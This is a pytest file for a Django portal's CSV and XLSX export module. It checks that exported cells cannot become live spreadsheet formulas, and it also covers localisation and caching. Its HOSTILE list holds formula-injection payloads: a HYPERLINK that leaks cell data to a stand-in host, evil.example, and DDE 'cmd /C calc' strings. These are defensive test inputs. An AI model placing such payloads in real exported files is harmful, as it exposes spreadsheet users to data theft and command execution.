"""portal.exports: what a spreadsheet opens is text where people wrote text, never a live formula."""

import codecs
import csv
import datetime
import decimal
import io

import pytest
from django.utils import translation
from django.utils.translation import gettext_lazy as _
from openpyxl import load_workbook

from portal import exports

HOSTILE = [
    '=HYPERLINK("https://evil.example/?leak="&A2,"Open the proposal")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


def test_xlsx_hostile_cells_are_strings_shown_as_written():
    stream = io.BytesIO()
    rows = [[title, -3.5, 12] for title in HOSTILE]
    exports.write_xlsx(stream, rows, header=[_("title"), "score", "rank"], title="ranking")
    sheet = load_workbook(io.BytesIO(stream.getvalue())).active
    assert sheet.title == "ranking"
    for number, title in enumerate(HOSTILE, start=2):
        cell = sheet.cell(row=number, column=1)
        assert cell.data_type == "s", title
        assert cell.value == title.replace("\r", "\n")  # XML reads a carriage return as a line feed
        assert cell.quotePrefix  # stays text when someone edits the cell
        # Numbers keep their type, a negative one included.
        assert (sheet.cell(row=number, column=2).value, sheet.cell(row=number, column=2).data_type) == (-3.5, "n")
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_xlsx_drops_control_characters_instead_of_failing():
    stream = io.BytesIO()
    exports.write_xlsx(stream, [["Zaï\x00 pits\x1b"]])
    assert load_workbook(io.BytesIO(stream.getvalue())).active["A1"].value == "Zaï pits"


def test_csv_starts_with_a_bom_and_neutralises_every_trigger():
    response = exports.csv_response("x.csv", [[title, -1.5, decimal.Decimal("2.50")] for title in HOSTILE])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    assert response.content.startswith(codecs.BOM_UTF8)
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    assert [row[0] for row in rows] == ["'" + title for title in HOSTILE]
    assert rows[0][1:] == ["-1.5", "2.50"]
    # Text cells are quoted, so a ";" cannot open a new cell in a spreadsheet that splits on ";".
    assert '"a;=1+1"' in response_text([["a;=1+1"]])


def response_text(rows):
    return exports.csv_response("x.csv", rows).content.decode("utf-8-sig")


def test_plain_values_are_untouched():
    when = datetime.datetime(2025, 3, 1, 10, 30, tzinfo=datetime.UTC)
    text = response_text([["Agroforestería", "", None, 7, True, datetime.date(2025, 3, 1), when, "a-b"]])
    assert text.startswith('"Agroforestería","","",7,"TRUE","2025-03-01","2025-03-01T')
    assert text.rstrip().endswith('"a-b"')


def test_headers_are_written_in_the_active_language():
    columns = [exports.Column("status", _("status")), exports.Column("email", _("e-mail address"))]
    with translation.override("fr"):
        text = exports.csv_response("x.csv", [], header=columns).content.decode("utf-8-sig")
        stream = io.BytesIO()
        exports.write_xlsx(stream, [], header=columns)
    assert text.strip() == '"Statut","Adresse e-mail"'
    assert [c.value for c in load_workbook(io.BytesIO(stream.getvalue())).active[1]] == ["Statut", "Adresse e-mail"]


def test_a_file_read_back_gets_its_keys_and_its_text_in_any_language():
    columns = [exports.Column("status", _("status")), exports.Column("email", _("e-mail address"))]
    with translation.override("es"):
        text = exports.csv_response("x.csv", [["active", "=cmd@example.net"]], header=columns).content
    rows = list(exports.keyed_rows(csv.DictReader(io.StringIO(text.decode("utf-8-sig"))), columns))
    assert rows == [{"status": "active", "email": "=cmd@example.net"}]


def _streamed(rows):
    return exports.csv_streaming_response("rows.csv", iter(rows))


def test_a_streamed_csv_is_kept_whole_once_its_last_byte_is_sent():
    from django.core.cache import cache

    rows = [[f"row {n}"] for n in range(exports.STREAM_ROWS * 2 + 5)]  # three chunks
    response = exports.kept_while_sent(_streamed(rows), "test:kept", 60)
    body = b"".join(response.streaming_content)
    assert cache.get("test:kept") == body and body.count(b"row ") == len(rows)
    assert exports.cached_csv_response("rows.csv", body).content == body


# Closing a response sends request_finished, whose receiver checks the database connections: in a worker that
# had opened one for an earlier test, that is database access (a CI run failed so, depending on the order).
@pytest.mark.django_db
def test_a_download_broken_off_or_too_large_is_not_kept():
    from django.core.cache import cache

    rows = [[f"row {n}"] for n in range(exports.STREAM_ROWS * 2 + 5)]
    broken = exports.kept_while_sent(_streamed(rows), "test:broken", 60)
    next(iter(broken.streaming_content))
    broken.close()  # the client went away after the first chunk: the server closes the answer
    assert cache.get("test:broken") is None
    response = exports.kept_while_sent(_streamed(rows), "test:large", 60, limit=100)
    assert b"".join(response.streaming_content).count(b"row ") == len(rows)  # sent whole, not kept
    assert cache.get("test:large") is None
